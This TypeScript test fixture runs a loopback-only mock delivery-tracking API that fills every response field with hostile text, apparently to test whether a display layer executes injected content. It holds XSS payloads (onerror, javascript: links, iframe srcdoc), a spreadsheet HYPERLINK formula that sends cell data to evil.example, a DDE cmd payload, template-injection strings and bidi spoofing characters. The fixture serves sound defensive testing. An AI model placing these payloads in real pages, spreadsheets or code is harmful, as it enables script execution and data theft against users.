// A TwinJet whose every text is an attack on whoever shows it. Loopback only; used by hostile-text.ts.

import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** What would tell that it ran: the page's own global, or a request to an address that nobody may ask. */
const RUN = 'globalThis.chaosRan=1';

export const HOSTILE_TEXTS: Record<string, string> = {
  html: `<img src=x onerror="${RUN}"><b>bold</b>`,
  script: `</script><script>${RUN}</script><svg onload=${RUN}>`,
  attribute: `" onmouseover="${RUN}" style="position:fixed;inset:0" x="`,
  link: `<a href="javascript:${RUN}">Open</a> https://evil.example/%22onload=1`,
  frame: `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe><meta http-equiv=refresh content=0;url=//evil.example>`,
  backwards: 'Delivered \u202Ednuofer\u2066 right\u200F to left',
  controls: 'Line\u0000one\u0007\r\nline two\u2028line three\u0085',
  formula: '=HYPERLINK("http://evil.example/"&A1,"open")',
  command: "@SUM(1+1)*cmd|' /C calc'!A0",
  markdown: '[click](javascript:alert(1)) ![x](http://evil.example/x.png)',
  template: '{{constructor.constructor("chaosRan=1")()}} <%= 7*7 %> %s %n',
  combining: `Z${'\u0351\u0352\u0353'.repeat(60)}algo`,
  emoji: '👩‍👩‍👧‍👦'.repeat(300),
  endless: 'Wwwww'.repeat(20_000),
};

export interface HostileProvider extends AsyncDisposable {
  url: string;
  /** One job for each text, and the code it stands at. */
  jobs: { requestId: string; name: string; text: string }[];
}

const CODES = [61, 60, 63, 30, 77, 53, 62];

export async function startHostileProvider(): Promise<HostileProvider> {
  const jobs = Object.entries(HOSTILE_TEXTS).map(([name, text], at) => ({
    requestId: `H${String(at).padStart(9, '0')}`,
    name,
    text,
    code: CODES[at % CODES.length] ?? 50,
  }));
  const server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const asked = JSON.parse(Buffer.concat(chunks).toString() || '{}') as { request_id?: string };
      const answer = (status: number, body: unknown) => {
        response.writeHead(status, { 'content-type': 'text/html; charset=utf-8' });
        response.end(JSON.stringify(body));
      };
      const { html = '', script = '', link = '' } = HOSTILE_TEXTS;
      if (request.url === '/api/v1/jobs/') {
        return answer(400, { errors: [{ deliver_address: html }, { [script]: link }] });
      }
      if (request.url === '/api/v1/validate/') {
        return answer(200, { price: html, errors: [{ deliver_address: script }], zones: zonesNamed(html) });
      }
      const at = jobs.findIndex(({ requestId }) => requestId === asked.request_id);
      const job = jobs[at];
      if (job === undefined) return answer(404, { detail: html });
      return answer(200, statusOf(job, at));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    jobs,
    [Symbol.asyncDispose]: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

function statusOf({ requestId, text, code }: { requestId: string; text: string; code: number }, at: number) {
  const now = new Date();
  const date = now.toISOString();
  const who = { courier: `${at} ${text} (Company)`, user: `user-${at}-${text}` };
  const point = { lat: 37.76 + at / 400, lng: -122.44 + at / 400 };
  return {
    job_info: { job_id: text, request_id: requestId, reference: text, external_id: text, ...who },
    job_locations: [{ date, ...point, ...who }],
    current_status: {
      status_code: code,
      status_string: text,
      status_time: date.slice(0, 23),
      courier_name: who.courier,
      remarks: text,
      last_location: [point.lat, point.lng],
    },
    job_history: [{ date, log: text, ...who }],
    [text.slice(0, 40)]: text,
  };
}

function zonesNamed(name: string) {
  const ring = [
    [-122.5, 37.7],
    [-122.4, 37.7],
    [-122.4, 37.8],
    [-122.5, 37.7],
  ];
  return [{ type: 'Feature', properties: { name }, geometry: { type: 'Polygon', coordinates: [ring] } }];
}
